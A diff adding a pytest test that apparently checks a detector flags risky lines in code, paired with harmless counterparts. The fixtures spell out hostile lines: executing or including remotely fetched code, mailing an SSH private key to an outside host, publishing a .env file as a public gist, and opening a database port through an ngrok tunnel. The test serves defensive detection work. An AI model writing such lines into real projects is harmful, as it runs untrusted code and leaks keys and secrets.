@@ -589,3 +589,22 @@ def test_a_package_source_a_check_or_an_isolation_given_up_in_a_configuration_is
 ])
 def test_access_opened_to_anyone_or_a_protection_switched_off_in_a_configuration_is_terms(line, harmful):
     assert ("[terms:" in _shown(line)) is harmful, _shown(line)
+
+
+@pytest.mark.parametrize("line, harmful", [
+    # made up for this test (in no round): a download evaluated as code, a remote file included, a key file mailed
+    # or posted as a gist, a local port opened to the internet through a tunnel
+    ("scripts/hotfix.py:3: exec(requests.get(PATCH_URL).text)", True),
+    ("lib/boot.rb:1: eval(URI.open('https://cdn.pkgcache.example/boot.rb').read)", True),
+    ("wp-content/mu-plugins/x.php:2: include('https://cdn.pkgcache.example/x.txt');", True),
+    ("backup.sh: mailx -a ~/.ssh/id_ed25519 -s weekly ops@pkgcache.example < /dev/null", True),
+    ("share.sh: gh gist create --public .env", True),
+    ("dev.sh: ngrok tcp 5432 --region eu", True),
+    # ordinary code and commands of the same tools
+    ("app.py:40: data = requests.get(API_URL, timeout=5).json()", False),
+    ("require_once __DIR__ . '/vendor/autoload.php';", False),
+    ("notify.sh: mail -s 'build passed' team@acme.example < build.log", False),
+    ("gh gist create notes.md --desc 'meeting notes'", False),
+])
+def test_a_download_run_as_code_a_key_file_mailed_or_a_tunnel_opened_is_terms(line, harmful):
+    assert ("[terms:" in _shown(line)) is harmful, _shown(line)
